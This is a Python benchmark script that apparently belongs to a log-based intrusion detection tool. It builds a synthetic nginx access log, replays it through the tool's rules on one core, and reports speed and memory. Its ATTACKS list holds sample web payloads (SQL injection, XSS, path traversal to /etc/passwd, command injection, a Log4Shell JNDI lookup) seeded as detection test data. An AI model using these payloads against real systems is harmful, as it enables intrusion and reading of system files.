"""How fast the log plane reads a large nginx log on one core, with all shipped rules: `make bench-logs`.

Writes a log of --lines lines (a shop's ordinary traffic from 60,000 clients, one attack in 2,000 lines), replays it in a
child process pinned to one core, and prints lines per second end to end (start and rules included) and peak RSS.
fail2ban-regex, where installed, reads the first lines of the same log with one filter, for comparison.
"""

from __future__ import annotations

import argparse
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

REPOSITORY = Path(__file__).resolve().parents[2]
CHILD = """
import sys, time
from pathlib import Path
from sentinel.pipeline import replay_logs
began = time.perf_counter()
alerts = sum(1 for _ in replay_logs(Path(sys.argv[1]), [Path(sys.argv[2])], "nginx-access"))
print(alerts, time.perf_counter() - began, time.process_time())
"""
ATTACKS = (
    "/product/{n}?id=1%27%20UNION%20SELECT%20NULL--",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/download?f=..%252f..%252fetc/passwd",
    "/ping?h=127.0.0.1;cat+/etc/passwd",
    "/?x=$%7Bjndi:ldap://198.51.100.9/a%7D",
)
WORDS = [
    "shirt",
    "shoes",
    "table",
    "lamp",
    "%E7%BA%AF%E6%A3%89",
    "coffee+mug",
    "winter+coat",
    "rug",
    "%C3%A9cran",
    "union+jack",
    "desk+chair",
]


def agents(chance: random.Random) -> list[str]:
    made = []
    for _ in range(400):
        version = f"{chance.randint(90, 134)}.0.{chance.randint(1000, 6999)}.{chance.randint(10, 200)}"
        system = chance.choice(
            (
                "Windows NT 10.0; Win64; x64",
                "X11; Linux x86_64",
                "Macintosh; Intel Mac OS X 10_15_7",
                "Linux; Android 13; SM-S911B",
            )
        )
        made.append(
            f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version} Safari/537.36"
        )
    return made


def target(chance: random.Random) -> str:
    kind = chance.random()
    number = chance.randint(10_000, 60_000)
    if kind < 0.55:
        return f"/static/img/{number % 900}.{number % 97:02x}.webp?v={number % 40}"
    if kind < 0.75:
        return f"/product/{number}/{chance.choice(WORDS[:3])}-{number % 50}"
    if kind < 0.85:
        return f"/api/v2/products?page={number % 90}&sort=price_asc&filter%5Bbrand%5D={number % 300}"
    if kind < 0.93:
        return f"/search?q={chance.choice(WORDS)}&page={number % 7}"
    return chance.choice(("/cart", "/checkout/address", "/account", "/login", "/", "/c/shoes?color=red"))


def write(path: Path, lines: int) -> None:
    chance = random.Random(20261123)
    names = agents(chance)
    clients = [
        f"{chance.randint(11, 200)}.{chance.randint(0, 255)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"
        for _ in range(60_000)
    ]
    with path.open("w", encoding="ascii") as file:
        for number in range(lines):
            seconds = number // 400
            clock = f"{seconds // 3600 % 24:02d}:{seconds // 60 % 60:02d}:{seconds % 60:02d}"
            attack = number % 2000 == 1999
            url = chance.choice(ATTACKS).format(n=number) if attack else target(chance)
            status = "200" if chance.random() < 0.94 else chance.choice(("304", "301", "404"))
            refer = (
                "-"
                if chance.random() < 0.4
                else f"https://shop.example/product/{chance.randint(10_000, 12_000)}/x"
            )
            file.write(
                f'{chance.choice(clients)} - - [02/Mar/2026:{clock} +0000] "GET {url} HTTP/1.1" {status} {number % 90_000} "{refer}" "{chance.choice(names)}"\n'
            )


def replay(log: Path, rules: Path) -> tuple[int, float, float, int]:
    """Alerts, seconds inside, seconds of the whole process, peak RSS in bytes."""
    began = time.perf_counter()
    command = [sys.executable, "-c", CHILD, str(log), str(rules)]
    done = subprocess.run(
        command,
        check=True,
        capture_output=True,
        text=True,
        cwd=REPOSITORY,
        preexec_fn=lambda: os.sched_setaffinity(0, {max(os.sched_getaffinity(0))}),
    )
    whole = time.perf_counter() - began
    alerts, seconds, cpu = done.stdout.split()
    print(f"  replay: {float(seconds):.2f} s wall, {float(cpu):.2f} s CPU")
    return int(alerts), float(cpu), whole, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024


def fail2ban(log: Path, lines: int) -> None:
    program = shutil.which("fail2ban-regex")
    if program is None:
        print("fail2ban-regex is not installed")
        return
    with tempfile.NamedTemporaryFile("w", suffix=".log") as part, log.open() as source:
        part.writelines(line for _, line in zip(range(lines), source, strict=False))
        part.flush()
        began = time.perf_counter()
        subprocess.run([program, part.name, "nginx-botsearch"], check=False, capture_output=True)
        print(f"fail2ban-regex (one filter): {lines / (time.perf_counter() - began):,.0f} lines/s")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--lines", type=int, default=2_000_000)
    parser.add_argument("--rules", type=Path, default=REPOSITORY / "rules" / "logs")
    parser.add_argument("--minimum", type=float, default=0, help="exit 1 below this many lines/s")
    chosen = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="bench-logs-") as folder:
        log = Path(folder) / "access.log"
        write(log, chosen.lines)
        alerts, cpu, whole, memory = replay(log, chosen.rules)
        rate = chosen.lines / whole
        print(f"{chosen.lines:,} lines, {log.stat().st_size / 1e6:,.0f} MB, {alerts:,} alerts")
        print(
            f"end to end: {rate:,.0f} lines/s wall ({chosen.lines / cpu:,.0f} per CPU second), RSS {memory / 1e6:.0f} MB"
        )
        fail2ban(log, 100_000)
    return 0 if rate >= chosen.minimum else 1


if __name__ == "__main__":
    sys.exit(main())
